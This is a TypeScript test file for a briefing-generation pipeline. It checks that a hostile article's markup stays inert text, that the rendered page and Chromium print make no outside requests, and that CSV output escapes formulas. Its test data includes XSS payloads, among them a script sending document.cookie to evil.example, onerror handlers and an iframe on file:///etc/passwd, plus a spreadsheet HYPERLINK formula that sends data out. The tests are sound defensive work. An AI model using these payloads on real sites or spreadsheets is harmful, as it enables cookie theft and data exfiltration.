/**
 * Hostile articles: an article (test/fixtures/hostile/input/hostile.md) full of HTML, scripts,
 * an iframe on file:///etc/passwd, images and CSS url() on an outside address, javascript:
 * links, Markdown links and images, directive syntax, entities and a 3,000-letter word, in its
 * text and in its front matter. Article text is data: the briefing shows all of it as text and
 * none of it as markup, and printing it makes no request outside the build.
 *
 * 1. ingest keeps the text verbatim and warns about the markup;
 * 2. render (on claims made from the hostile sentences) gives HTML with no element or attribute
 *    the article brought, and the payloads as text;
 * 3. print (the real Chromium) loads nothing from outside: the blocked requests are counted;
 * 4. the whole chain through the CLI, once every stage is wired in the stage table;
 * 5. the editors' inputs (test/fixtures/hostile/editor/): a stylesheet, a layout, a chart spec and
 *    template text that carry payloads the checks let through as text (in comments, strings,
 *    titles, labels, attributes): the build succeeds, the HTML has no script, no event handler
 *    and no outside address, and the print browser asks for nothing.
 */
import { execFile } from 'node:child_process';
import { appendFileSync, cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import type { Root } from 'hast';
import rehypeParse from 'rehype-parse';
import { unified } from 'unified';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { ingest } from '../../pipeline/ingest/index.ts';
import { parseLexicon } from '../../pipeline/shared/lexicon.ts';
import { render } from '../../pipeline/render/index.ts';
import { printPdf } from '../../pipeline/print/index.ts';
import { stages } from '../../pipeline/build/stages.ts';
import { main } from '../../pipeline/build/cli.ts';
import type { Claim, Corpus, Figure, IngestedSource } from '../../pipeline/shared/schema.ts';
import { injected, textOf } from '../fixtures/hostile/markup.ts';
import { fixtures, repo, seeds } from '../paths.ts';

const root = repo;
const dir = join(fixtures, 'hostile', 'input');
const hostileText = readFileSync(join(dir, 'hostile.md'), 'utf8');
const lexicon = parseLexicon('sources/lexicon.yaml', readFileSync(join(seeds, 'sources', 'lexicon.yaml'), 'utf8'));
const temps: string[] = [];
afterAll(() => {
  for (const t of temps) rmSync(t, { recursive: true, force: true });
});

/** What the article tries to smuggle in; each must reach the reader as text. */
const PAYLOADS = [
  "<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>",
  '<img src="https://evil.example/pixel.png" onerror="alert(\'img\')">',
  '<iframe src="file:///etc/passwd"></iframe>',
  '<div style="background:url(https://evil.example/bg.png)">',
  "[Click here: 98 seats](javascript:alert('link'))",
  '::chart[Injected chart]{#vote-shares}',
  ':fig[turnout.national]',
  '&lt;b&gt;Entities stay as written&lt;/b&gt; &#x3C;script&#x3E;',
];
const META_PAYLOADS = ["</title><script>alert('title')</script>", "<img src=https://evil.example/outlet.png onerror=alert('outlet')>"];

describe('ingest: hostile text stays verbatim text', () => {
  const corpus = ingest([{ file: 'sources/hostile.md', text: hostileText }], lexicon);
  const s = corpus.sources[0]!;

  it('every payload is in the body and in a sentence exactly as written', () => {
    const sentences = s.sentences.map((x) => s.body.slice(x.start, x.end)).join('\n');
    for (const p of PAYLOADS) {
      expect(s.body).toContain(p);
      expect(sentences).toContain(p.slice(0, 30));
    }
    expect(s.meta.title).toBe(META_PAYLOADS[0]);
  });

  it('warns that the article holds markup, at its place', () => {
    expect(s.warnings.map((w) => [w.ruleId, w.line, w.column])).toEqual([['markup-in-article', 11, 20]]);
  });

  it('refuses a javascript: address in the front matter', () => {
    const text = hostileText.replace(/^url: .*$/m, 'url: "javascript:alert(1)"');
    expect(() => ingest([{ file: 'sources/hostile.md', text }], lexicon)).toThrow(/front-matter field "url": expected an http\(s\) address/);
  });
});

describe('claims.csv: article text opened in a spreadsheet', () => {
  // A quote that starts with = + - @ is a formula to Excel or LibreOffice, even inside quotes
  // (CSV injection); extract's csvField writes such text with a leading apostrophe.
  it('no cell starts like a formula', async () => {
    const { extract, claimsToCsv } = await import('../../pipeline/extract/index.ts');
    const text = `${hostileText.split('\n---\n')[0]}\n---\n=HYPERLINK("https://evil.example/?d="&A1,"x") Turnout was 54.19%.\n@SUM(1+1) Amanat won 53.9% of the vote.\n`;
    const csv = claimsToCsv(extract(ingest([{ file: 'sources/hostile.md', text }], lexicon), lexicon));
    expect(csv).toContain('HYPERLINK');
    expect(csv).not.toMatch(/(^|,)"?([=+@\t\r]|-(?!\d))/m);
  });
});

/** Claims and figures made from the hostile sentences: each number in a sentence, as a claim. */
function claimsFor(s: IngestedSource): { claims: Claim[]; figures: Figure[] } {
  const claims: Claim[] = [];
  for (const sentence of s.sentences) {
    const quote = s.body.slice(sentence.start, sentence.end);
    const m = /(\d+(?:\.\d+)?)(%?)/.exec(quote);
    if (!m) continue;
    const start = sentence.start + m.index;
    const line = s.bodyLine + s.body.slice(0, start).split('\n').length - 1;
    claims.push({
      id: `${s.meta.id}:c${claims.length + 1}`,
      source: s.meta.id,
      metric: `metric_${claims.length + 1}`,
      entity: null,
      value: Number(m[1]),
      low: null,
      high: null,
      bound: 'exact',
      precision: 0.5,
      unit: m[2] ? '%' : 'seats',
      qualifier: 'unspecified',
      election: null,
      quote,
      span: [sentence.start, sentence.end],
      text: m[0],
      textSpan: [start, start + m[0].length],
      sentence: sentence.id,
      line,
      column: start - s.body.lastIndexOf('\n', start - 1),
    });
  }
  const figures: Figure[] = claims.map((c) => ({
    id: c.metric,
    metric: c.metric,
    entity: null,
    election: null,
    kind: 'result',
    value: c.value,
    low: null,
    high: null,
    precision: c.precision,
    unit: c.unit,
    qualifier: c.qualifier,
    status: 'single',
    rule: 'Only one source gives this figure.',
    claims: [c.id],
    dissent: [],
    checks: [],
    formula: null,
    inputs: [],
  }));
  return { claims, figures };
}

describe('render and print: the hostile article as text, nothing loaded', () => {
  let html: string;
  let corpus: Corpus;
  beforeAll(() => {
    corpus = ingest([{ file: 'sources/hostile.md', text: hostileText }], lexicon);
    const { claims, figures } = claimsFor(corpus.sources[0]!);
    expect(claims.length).toBeGreaterThanOrEqual(8);
    html = render({
      template: { file: 'templates/briefing.md', text: readFileSync(join(dir, 'template.md'), 'utf8') },
      layout: { file: 'templates/layout.html', text: readFileSync(join(seeds, 'templates', 'layout.html'), 'utf8') },
      style: readFileSync(join(seeds, 'templates', 'style.css'), 'utf8'),
      corpus,
      claims,
      figures,
      checks: [],
      charts: [],
      lexicon,
      policy: [],
      inputs: [],
    }).html;
  });

  it('the HTML has no element or attribute from the article', () => {
    expect(injected(html)).toEqual([]);
  });

  it('the reader sees every payload, and the front matter, as text', () => {
    const text = textOf(unified().use(rehypeParse).parse(html) as Root);
    for (const p of PAYLOADS) expect(text).toContain(p);
    for (const p of META_PAYLOADS) expect(text).toContain(p);
    expect(text).toContain('A'.repeat(3000));
  });

  it('the detector itself finds markup when it is there', () => {
    expect(injected(html.replace('</main>', '<img src="https://evil.example/x.png" onerror="x()"></main>'))).toEqual([
      '<img>',
      'img[src=https://evil.example/x.png]',
      'img[onError]',
    ]);
  });

  it('Chromium prints it without a single request outside the build', async () => {
    const { pdf, requests } = await printPdf(html, {
      title: 'Hostile article test',
      author: 'Test',
      subject: 'Test',
      keywords: [],
      language: 'en',
      date: new Date('2023-03-24T00:00:00Z'),
    });
    expect(requests.blocked).toEqual([]);
    expect(Buffer.from(pdf).subarray(0, 5).toString('latin1')).toBe('%PDF-');
  }, 120_000);
});

const NEEDED = ['ingest', 'extract', 'reconcile', 'charts', 'render', 'print'];
const wired = NEEDED.every((name) => stages.some((s) => s.name === name));
/** Every stage of the table up to print, in its order (the table may hold more than NEEDED). */
const ALL = stages.slice(0, stages.findIndex((s) => s.name === 'print') + 1).map((s) => s.name);

describe('the whole chain with a hostile article among the real ones', () => {
  // Waits for extract, reconcile and charts to be wired into pipeline/build/stages.ts.
  it.runIf(wired)('builds, shows the article as text only, and blocks nothing because nothing is asked for', async () => {
    const project = mkdtempSync(join(tmpdir(), 'briefing-hostile-'));
    temps.push(project);
    cpSync(join(seeds, 'sources'), join(project, 'sources'), { recursive: true });
    cpSync(join(seeds, 'templates'), join(project, 'templates'), { recursive: true });
    cpSync(join(dir, 'hostile.md'), join(project, 'sources', 'zz-hostile.md'));
    const out = join(project, 'output');
    const { stdout } = await promisify(execFile)(process.execPath, ['--import', 'tsx', join(root, 'pipeline', 'build', 'cli.ts'), ...ALL, '--root', project, '--out', out], {
      cwd: root,
      env: { ...process.env, SOURCE_DATE_EPOCH: '', CI: '1' },
    });
    const html = readFileSync(join(out, 'briefing.html'), 'utf8');
    expect(injected(html)).toEqual([]);
    const text = textOf(unified().use(rehypeParse).parse(html) as Root);
    expect(text).toContain(PAYLOADS[0]);
    for (const p of META_PAYLOADS) expect(text).toContain(p);
    expect(stdout).toMatch(/^print .* 0 request\(s\) blocked/m);
    // The 3,000-letter word wraps inside the page instead of running off it.
    const { stdout: pdfText } = await promisify(execFile)('pdftotext', [join(out, 'briefing.pdf'), '-'], { maxBuffer: 64 * 1024 * 1024 });
    const runs = pdfText.match(/A{20,}/g) ?? [];
    expect(runs.join('').length).toBeGreaterThanOrEqual(3000);
    expect(Math.max(...runs.map((r) => r.length))).toBeLessThan(200);
  }, 300_000);
});

describe('hostile editor inputs: the payloads the checks let through stay text, and nothing is loaded', () => {
  const editor = join(fixtures, 'hostile', 'editor');

  it('style, layout, chart spec and template text: 0 scripts, 0 event handlers, 0 outside addresses, 0 requests', async () => {
    const project = mkdtempSync(join(tmpdir(), 'briefing-hostile-editor-'));
    temps.push(project);
    cpSync(join(seeds, 'sources'), join(project, 'sources'), { recursive: true });
    cpSync(join(seeds, 'templates'), join(project, 'templates'), { recursive: true });
    appendFileSync(join(project, 'templates', 'style.css'), readFileSync(join(editor, 'style-extra.css')));
    appendFileSync(join(project, 'templates', 'briefing.md'), readFileSync(join(editor, 'template-extra.md')));
    // The fixture project's layout with a hostile <style> in its head and hostile markup at the start of <main>.
    const layout = readFileSync(join(seeds, 'templates', 'layout.html'), 'utf8')
      .replace('</head>', `${readFileSync(join(editor, 'layout-head.html'), 'utf8')}</head>`)
      .replace('<main>\n', `<main>\n${readFileSync(join(editor, 'layout-main.html'), 'utf8')}`);
    writeFileSync(join(project, 'templates', 'layout.html'), layout);
    cpSync(join(editor, 'hostile.vl.json'), join(project, 'templates', 'charts', 'hostile.vl.json'));
    // The CLI's entry function, as the launcher calls it, with plain progress lines (print's says how many requests it blocked).
    let stdout = '';
    let stderr = '';
    const out = vi.spyOn(process.stdout, 'write').mockImplementation((c: string | Uint8Array) => ((stdout += String(c)), true));
    const err = vi.spyOn(process.stderr, 'write').mockImplementation((c: string | Uint8Array) => ((stderr += String(c)), true));
    const ci = process.env.CI;
    process.env.CI = '1';
    let code: number;
    try {
      code = await main(['build', '--goal', 'all', '--root', project]);
    } finally {
      out.mockRestore();
      err.mockRestore();
      if (ci === undefined) delete process.env.CI;
      else process.env.CI = ci;
    }
    expect(code, stderr).toBe(0);
    // The raw HTML in the template is dropped with a warning, never passed through.
    expect(stderr).toMatch(/templates\/briefing\.md:\d+:\d+: warning: the template contains raw HTML \("<b onmouseover=/);
    const html = readFileSync(join(project, 'output', 'briefing.html'), 'utf8');
    expect(injected(html)).toEqual([]);
    // Outside quoted attribute values (where "<script>" is text), no script tag and no handler.
    const markup = html.replace(/="[^"]*"/g, '=""');
    expect(markup).not.toMatch(/<script/i);
    expect(markup).not.toMatch(/<[a-z][^<>]*\son[a-z]+\s*=/i);
    // No address but a place in the page, a data: image or font, or a link to a web page.
    const tree = unified().use(rehypeParse).parse(html) as Root;
    const { elements } = await import('../fixtures/hostile/markup.ts');
    const addresses = elements(tree).flatMap((el) =>
      Object.entries(el.properties)
        .filter(([k]) => ['src', 'href', 'xLinkHref', 'srcSet', 'action', 'formAction', 'poster', 'data', 'background', 'cite', 'ping'].includes(k))
        .map(([k, v]) => `${el.tagName}[${k}=${String(v)}]`),
    );
    expect(addresses.filter((a) => !/^[a-z0-9]+\[(?:src|href|xLinkHref)=(?:#|data:image\/)/.test(a) && !/^a\[href=https?:\/\//.test(a))).toEqual([]);
    expect(html.match(/url\((?!\s*["']?(?:data:|#))[^)]*\)/g) ?? []).toEqual([]);
    // The payloads reached the reader as text.
    const text = textOf(tree);
    expect(text).toContain('Shares </figcaption><script>steal()</script>');
    expect(html).toContain('\\3c /style>\\3c script>alert(');
    // The layout's markup is there, its payloads inert (an attribute value, a data- attribute).
    expect(html).toContain('data-x="javascript:steal()"');
    expect(stdout).toMatch(/^print .* 0 request\(s\) blocked/m);
  }, 300_000);
});
